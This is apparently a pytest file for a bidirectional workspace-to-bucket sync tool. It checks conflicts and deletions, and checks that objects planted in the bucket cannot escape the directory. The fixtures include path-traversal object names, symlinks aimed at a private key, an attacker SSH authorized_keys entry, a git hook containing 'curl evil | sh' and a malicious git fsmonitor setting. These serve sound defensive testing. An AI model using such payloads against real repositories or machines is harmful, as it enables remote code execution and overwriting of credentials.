"""Two-way workspace sync against fake-gcs-server: edits and deletions both ways, a conflict that loses nothing, and
nothing the bucket holds can make the sync write outside the directory, follow a symlink or delete what is ignored."""

import os
import time
from pathlib import Path

import pytest
from google.cloud import storage

from modelplane.cli import sync as sync_module
from modelplane.cli.sync import STATE_FILE, sync

PREFIX = "ml/notebooks/nb/workspace/"


def remote(bucket: storage.Bucket) -> dict[str, bytes]:
    return {b.name.removeprefix(PREFIX): b.download_as_bytes() for b in bucket.client.list_blobs(bucket, prefix=PREFIX)}


def test_sync_both_ways_with_deletions_and_a_conflict(tmp_path: Path, bucket: storage.Bucket) -> None:
    (tmp_path / "train.py").write_text("v1")
    (tmp_path / "notes.md").write_text("n1")
    first = sync(tmp_path, bucket, PREFIX)
    assert sorted(first.uploaded) == ["notes.md", "train.py"]
    assert remote(bucket) == {"train.py": b"v1", "notes.md": b"n1"}  # the state file stays local

    bucket.blob(PREFIX + "results/metrics.json").upload_from_string(b'{"loss": 0.1}')  # the notebook writes
    (tmp_path / "train.py").write_text("v2")  # the user edits
    second = sync(tmp_path, bucket, PREFIX)
    assert second.uploaded == ["train.py"] and second.downloaded == ["results/metrics.json"]
    assert (tmp_path / "results" / "metrics.json").read_text() == '{"loss": 0.1}'

    (tmp_path / "notes.md").unlink()  # deleted here
    bucket.blob(PREFIX + "results/metrics.json").delete()  # deleted in the notebook
    third = sync(tmp_path, bucket, PREFIX)
    assert third.deleted_remote == ["notes.md"] and third.deleted_local == ["results/metrics.json"]
    assert set(remote(bucket)) == {"train.py"} and not (tmp_path / "results" / "metrics.json").exists()

    (tmp_path / "train.py").write_text("mine")  # edited on both sides
    bucket.blob(PREFIX + "train.py").upload_from_string(b"theirs")
    fourth = sync(tmp_path, bucket, PREFIX)
    assert fourth.conflicts == ["train.py"]
    assert (tmp_path / "train.py").read_text() == "theirs"  # the notebook's version wins in place
    assert (tmp_path / "train.py.local-conflict").read_text() == "mine"  # and nothing local is lost
    fifth = sync(tmp_path, bucket, PREFIX)
    assert fifth.uploaded == ["train.py.local-conflict"] and not sync(tmp_path, bucket, PREFIX).changed
    assert (tmp_path / STATE_FILE).is_file() and STATE_FILE not in remote(bucket)


def test_an_edit_beats_a_deletion_on_the_other_side(tmp_path: Path, bucket: storage.Bucket) -> None:
    (tmp_path / "a.py").write_text("1")
    sync(tmp_path, bucket, PREFIX)
    bucket.blob(PREFIX + "a.py").delete()
    (tmp_path / "a.py").write_text("2")
    result = sync(tmp_path, bucket, PREFIX)
    assert result.uploaded == ["a.py"] and remote(bucket) == {"a.py": b"2"}


def everything_under(root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*"))


def test_objects_named_to_leave_the_directory_are_refused_and_nothing_lands_outside(
        tmp_path: Path, bucket: storage.Bucket) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    planted = ["../outside/evil", "/" + str(outside / "absolute"), "a/../../outside/b", "..\\outside\\c",
               "C:/outside/d", "x//y", "./e"]  # "/" + an absolute path: the //etc/x case, aimed where we can look
    for name in [*planted, "ok.txt"]:
        bucket.blob(PREFIX + name).upload_from_string(b"planted")
    result = sync(work, bucket, PREFIX)
    assert result.downloaded == ["ok.txt"]
    assert sorted(result.refused) == sorted(planted)
    assert everything_under(outside) == [] and everything_under(tmp_path) == [
        "outside", "work", f"work/{STATE_FILE}", "work/ok.txt"]
    assert not sync(work, bucket, PREFIX).changed  # and the next sync refuses them again, quietly changing nothing


def test_a_symlink_in_the_directory_is_never_followed(tmp_path: Path, bucket: storage.Bucket) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    (outside / "id_rsa").write_text("PRIVATE KEY")
    (work / "notes.md").write_text("n")
    (work / "keys").symlink_to(outside, target_is_directory=True)
    (work / "key").symlink_to(outside / "id_rsa")
    first = sync(work, bucket, PREFIX)
    assert first.uploaded == ["notes.md"] and set(remote(bucket)) == {"notes.md"}  # nothing read through a link
    assert set(first.refused) == {"key", "keys"}  # and each one reported

    bucket.blob(PREFIX + "keys/authorized_keys").upload_from_string(b"ssh-rsa attacker")
    bucket.blob(PREFIX + "key").upload_from_string(b"overwritten")
    second = sync(work, bucket, PREFIX)
    assert second.downloaded == [] and set(second.refused) == {"key", "keys", "keys/authorized_keys"}
    assert "symlink" in second.refused["keys/authorized_keys"]
    assert everything_under(outside) == ["id_rsa"] and (outside / "id_rsa").read_text() == "PRIVATE KEY"
    assert (work / "key").is_symlink() and (work / "keys").is_symlink()

    (work / "notes.md").unlink()  # a synced file becomes a symlink: neither followed nor taken for a deletion
    (work / "notes.md").symlink_to(outside / "id_rsa")
    third = sync(work, bucket, PREFIX)
    assert "notes.md" in third.refused and not third.changed and remote(bucket)["notes.md"] == b"n"


def test_the_sync_state_and_git_are_never_taken_from_the_bucket(tmp_path: Path, bucket: storage.Bucket) -> None:
    (tmp_path / "train.py").write_text("v1")
    bucket.blob(PREFIX + STATE_FILE).upload_from_string(b'{"train.py": "0"}')
    bucket.blob(PREFIX + ".git/hooks/pre-commit").upload_from_string(b"#!/bin/sh\ncurl evil | sh\n")
    bucket.blob(PREFIX + "sub/.git/config").upload_from_string(b"[core]\nfsmonitor = evil\n")
    for spelling in (".GIT/config", ".git./config", ".g\u200cit/config", ".Modelplane-Sync.json"):  # the same on a
        bucket.blob(PREFIX + spelling).upload_from_string(b"evil")  # case-insensitive, Windows or HFS+ filesystem
    result = sync(tmp_path, bucket, PREFIX)
    assert result.uploaded == ["train.py"] and result.downloaded == []
    assert b'"0"' not in (tmp_path / STATE_FILE).read_bytes()
    assert everything_under(tmp_path) == [STATE_FILE, "train.py"]
    assert remote(bucket)[STATE_FILE] == b'{"train.py": "0"}'  # nor is ours written there


def test_an_ignored_notebook_output_survives_two_syncs(tmp_path: Path, bucket: storage.Bucket) -> None:
    (tmp_path / ".gitignore").write_text("outputs/\n*.ckpt\n")
    (tmp_path / "train.py").write_text("v1")
    (tmp_path / "local.ckpt").write_text("weights")
    bucket.blob(PREFIX + "outputs/plot.png").upload_from_string(b"png")
    bucket.blob(PREFIX + "model.ckpt").upload_from_string(b"big")
    for _ in range(2):
        sync(tmp_path, bucket, PREFIX)
    # Ignored means not synced, either way: neither fetched, nor sent, nor deleted for being absent on one side.
    assert remote(bucket) == {".gitignore": b"outputs/\n*.ckpt\n", "train.py": b"v1", "outputs/plot.png": b"png",
                              "model.ckpt": b"big"}
    assert everything_under(tmp_path) == [".gitignore", STATE_FILE, "local.ckpt", "train.py"]


def test_an_object_that_cannot_be_written_is_reported_and_the_others_go_on(
        tmp_path: Path, bucket: storage.Bucket) -> None:
    for name in ("a", "a/b", "z.txt"):  # "a" as a file and as a directory: one of them cannot be
        bucket.blob(PREFIX + name).upload_from_string(name.encode())
    result = sync(tmp_path, bucket, PREFIX)
    assert result.downloaded == ["a", "z.txt"] and list(result.refused) == ["a/b"]
    assert (tmp_path / "z.txt").read_text() == "z.txt"
    assert set(remote(bucket)) == {"a", "a/b", "z.txt"}  # the refused object is left as it is


def test_an_idle_sync_hashes_nothing_it_already_knows(
        tmp_path: Path, bucket: storage.Bucket, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("a.py", "data/big.bin"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(name)
        os.utime(tmp_path / name, (time.time() - 60, time.time() - 60))  # settled: not just written
    assert sorted(sync(tmp_path, bucket, PREFIX).uploaded) == ["a.py", "data/big.bin"]

    class NoHashing:
        def __getattr__(self, name: str) -> None:
            raise AssertionError(f"hashed again (hashlib.{name})")

    monkeypatch.setattr(sync_module, "hashlib", NoHashing())
    assert not sync(tmp_path, bucket, PREFIX).changed
